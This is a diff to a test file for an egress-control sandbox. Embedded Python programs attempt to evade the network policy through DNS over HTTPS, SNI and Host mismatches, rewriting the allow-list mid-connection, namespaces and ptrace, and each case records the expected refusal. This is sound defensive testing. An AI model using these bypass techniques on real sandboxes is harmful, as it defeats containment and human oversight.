@@ -7,7 +7,7 @@ import { helloMessage, serverName } from '../capture/recognize/support/hello.js'
 /** A way out that the policy does not allow. */
 export interface Attempt {
   readonly name: string;
-  /** Text of a Python program; what it prints is what the command has got. */
+  /** Text of a Python program; what it prints is what the command has got. Its argument is the id of a process outside. */
   readonly python: string;
   /** Exactly what it prints. */
   readonly prints: string;
@@ -23,8 +23,12 @@ export interface Attempt {
   readonly anyProtocol?: readonly string[];
   /** Datagrams that a stranger gets, since a host is allowed that shares its address: how many, and their bytes. */
   readonly datagrams?: { readonly count: number; readonly bytes: number };
+  /** Flows to any other address than those of the listed hosts and of the host's resolver, with the bytes sent. */
+  readonly elsewhere?: readonly string[];
   /** Requests that an allowed proxy gets to see. */
   readonly tunnels?: readonly string[];
+  /** Requests that a listed host gets inside of TLS: Host and path. */
+  readonly requests?: readonly string[];
 }
 
 export type Place = Pick<LockRow, 'host' | 'port' | 'protocol'>;
@@ -41,10 +45,12 @@ export const HOST_SOCKETS = { path: `/run/egresslock-${process.pid}.sock`, abstr
 
 const STRANGER = '198.51.100.10';
 const WEB = '198.51.100.30';
+/** A name that the lab's DNS over HTTPS knows. */
+const RESOLVED = 'stranger.collect.lab.example';
 
 /** `said(f)` prints what a call returned, or the name of its error. */
 const PRELUDE = `
-import errno, os, socket, ssl, struct, sys, time
+import errno, http.client, os, socket, ssl, struct, sys, time
 socket.setdefaulttimeout(5)
 def said(call):
     try:
@@ -60,10 +66,11 @@ def tcp(host, port, data=b'x', family=socket.AF_INET):
     s.connect((host, port))
     s.sendall(data)
     return s.recv(1000)[:12]
-def tls(address, name, port=443):
-    context = ssl._create_unverified_context()
+def secure(address, name, port=443):
     s = socket.create_connection((address, port))
-    return context.wrap_socket(s, server_hostname=name).version()
+    return ssl._create_unverified_context().wrap_socket(s, server_hostname=name)
+def tls(address, name, port=443):
+    return secure(address, name, port).version()
 def query(name, extra=b'', additional=0, kind=1):
     labels = b''.join(bytes([len(l)]) + l for l in (name if isinstance(name, list) else name.encode().split(b'.')))
     return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, additional) + labels + b'\\0' + struct.pack('>HH', kind, 1) + extra
@@ -73,6 +80,11 @@ def ask(message, server='198.51.100.53'):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.sendto(message, (server, 53))
     return rcode(s.recv(2000))
+def doh(server, name, message):
+    c = http.client.HTTPConnection(name)
+    c.sock = secure(server, name)
+    c.request('POST', '/dns-query', message, {'Content-Type': 'application/dns-message'})
+    return socket.inet_ntoa(c.getresponse().read()[-4:])
 web = socket.gethostbyname('web.lab.example')
 `;
 
@@ -190,17 +202,24 @@ print(rcode(data[2:]))`,
   },
   {
     name: 'DNS over HTTPS of an unlisted host',
-    python: `said(lambda: tls('${STRANGER}', 'stranger.collect.lab.example'))`,
-    prints: REFUSED,
-    ends: 'refused',
-    blocked: [`${STRANGER}:443`],
+    python: ['doh.collect.lab.example.', STRANGER]
+      .map((server) => `said(lambda: doh('${server}', 'doh.collect.lab.example', query('${RESOLVED}')))`)
+      .join('\n'),
+    prints: `EAI -2\n${REFUSED}`,
+    ends: 'its name NXDOMAIN, its address refused',
+    blocked: [`${STRANGER}:443`, 'doh.collect.lab.example'],
   },
   {
     name: 'DNS over HTTPS of a listed host, and the address that it gave',
-    python: `said(lambda: tls(web, 'web.lab.example'))\nsaid(lambda: tcp('${STRANGER}', 31337))`,
-    prints: `TLSv1.3\n${REFUSED}`,
-    ends: 'refused',
-    blocked: [`${STRANGER}:31337`],
+    python: `
+address = doh(web, 'web.lab.example', query('${RESOLVED}'))
+print(address)
+said(lambda: tcp(address, 31337))
+said(lambda: doh(address, '${RESOLVED}', query('${RESOLVED}')))`,
+    prints: `${STRANGER}\n${REFUSED.repeat(2)}`,
+    ends: 'the listed host gets the query and answers; the address is refused',
+    blocked: [`${STRANGER}:31337`, `${STRANGER}:443`],
+    requests: ['web.lab.example/dns-query'],
   },
   {
     name: 'SNI of another name than was resolved',
@@ -229,6 +248,19 @@ print(rcode(data[2:]))`,
     prints: RESET,
     ends: 'reset',
     blocked: ['web.lab.example:443'],
+  },
+  {
+    name: 'Host of another name than the listed SNI, inside of TLS',
+    python: `
+def inside():
+    s = secure(web, 'web.lab.example')
+    s.sendall(b'GET / HTTP/1.1\\r\\nHost: stranger.collect.lab.example\\r\\n\\r\\n')
+    return s.recv(1000)[:12]
+said(inside)`,
+    prints: "b'HTTP/1.1 200'\n",
+    ends: 'not seen: the listed host gets the request, the other one does not',
+    blocked: [],
+    requests: ['stranger.collect.lab.example/'],
   },
   {
     name: 'Host of another name',
@@ -299,6 +331,7 @@ time.sleep(0.3); print('done')`,
     anyProtocol: ['good.collect.lab.example'],
     asked: ['good.collect.lab.example'],
     datagrams: { count: 1, bytes: 1 },
+    elsewhere: [`udp ${STRANGER}:443, 1 B`],
   },
   {
     name: 'SNI of another name in QUIC, in a second connection of the flow',
@@ -314,6 +347,7 @@ time.sleep(0.3); print('done')`,
     anyProtocol: ['good.collect.lab.example'],
     asked: ['good.collect.lab.example'],
     datagrams: { count: 1, bytes: 1200 },
+    elsewhere: [`udp ${STRANGER}:443, 1200 B`],
   },
   {
     name: 'CONNECT through a listed proxy',
@@ -409,8 +443,9 @@ said(lambda: tcp(web, 80, b'GET / HTTP/1.1\\r\\nHost: web.lab.example\\rHost: fr
     name: 'a service of the host’s loopback',
     python: `said(lambda: tcp('127.0.0.1', 7070))`,
     prints: REFUSED,
-    ends: 'refused',
+    ends: 'refused, once egresslock has seen that there is such a service',
     blocked: ['localhost:7070'],
+    elsewhere: ['tcp 127.0.0.1:7070, 0 B'],
   },
   {
     name: 'cloud metadata',
@@ -472,6 +507,33 @@ said(lambda: tcp('${STRANGER}', 31337))`,
     blocked: [`${STRANGER}:31337`],
   },
   {
+    name: 'a list and a config that are changed while a connection is open',
+    python: `
+import json
+s = socket.create_connection((web, 80))
+def get(host):
+    s.sendall(b'GET / HTTP/1.1\\r\\nHost: ' + host + b'\\r\\n\\r\\n')
+    return s.recv(1000)[:12]
+said(lambda: get(b'web.lab.example'))
+allowed = ('${STRANGER}', 31337, 'unknown'), ('stranger.collect.lab.example', 31337, 'unknown'), ('fronted.lab.example', 80, 'http')
+lock = json.load(open('egress.lock.json'))
+speaker = lock['rows'][0]['package']
+lock['rows'] = [{'package': speaker, 'phase': 'run', 'host': h, 'port': p, 'protocol': q} for h, p, q in allowed]
+json.dump(lock, open('egress.lock.json', 'w'))
+with open('egresslock.config.yaml', 'w') as config:
+    config.write('rules:\\n  - { host: web.lab.example, action: block }\\n')
+    for host, _, _ in allowed: config.write('  - { host: ' + host + ', action: allow }\\n')
+time.sleep(1)
+said(lambda: get(b'web.lab.example'))
+said(lambda: tcp(web, 80, b'GET / HTTP/1.0\\r\\nHost: web.lab.example\\r\\n\\r\\n'))
+said(lambda: ask(query('stranger.collect.lab.example')))
+said(lambda: tcp('${STRANGER}', 31337))
+said(lambda: get(b'fronted.lab.example'))`,
+    prints: `${"b'HTTP/1.1 200'\n".repeat(3)}NXDOMAIN\n${REFUSED}${RESET}`,
+    ends: 'as the policy of the start says: its host passes, others are refused or reset',
+    blocked: [`${STRANGER}:31337`, 'stranger.collect.lab.example', 'web.lab.example:80'],
+  },
+  {
     name: 'an address that another thread changes during the call',
     python: `
 import ctypes, threading
@@ -507,7 +569,7 @@ print(libc.syscall(425, 8, ctypes.create_string_buffer(120)), errno.errorcode[ct
     blocked: ['socket AF_ALG', 'socket AF_PACKET', 'socket AF_VSOCK'],
   },
   {
-    name: 'a namespace of its own, and ptrace of a process outside',
+    name: 'a namespace of its own',
     python: `
 import ctypes
 libc = ctypes.CDLL(None, use_errno=True)
@@ -516,11 +578,24 @@ if pid == 0:
     libc.unshare(0x10000000 | 0x40000000)
     said(lambda: tcp('${STRANGER}', 31337))
     sys.stdout.flush(); os._exit(0)
-os.waitpid(pid, 0)
-print(libc.ptrace(16, 1, 0, 0), errno.errorcode[ctypes.get_errno()])`,
-    prints: 'ECONNREFUSED\n-1 EPERM\n',
+os.waitpid(pid, 0)`,
+    prints: REFUSED,
     ends: 'refused',
     blocked: [`${STRANGER}:31337`],
+  },
+  {
+    name: 'ptrace of the sandbox’s first process, and of one outside by the host’s number for it',
+    python: `
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+ATTACH, SEIZE = 16, 0x4206
+for pid in (1, int(sys.argv[1])):
+    for request in (ATTACH, SEIZE): print(libc.ptrace(request, pid, 0, 0), errno.errorcode[ctypes.get_errno()])
+# Who is traced is let go when this ends.
+time.sleep(0.5)`,
+    prints: '-1 EPERM\n-1 EPERM\n-1 ESRCH\n-1 ESRCH\n',
+    ends: 'refused',
+    blocked: [],
   },
   {
     name: 'a Unix socket of the host’s, such as Docker’s, and one without a path',
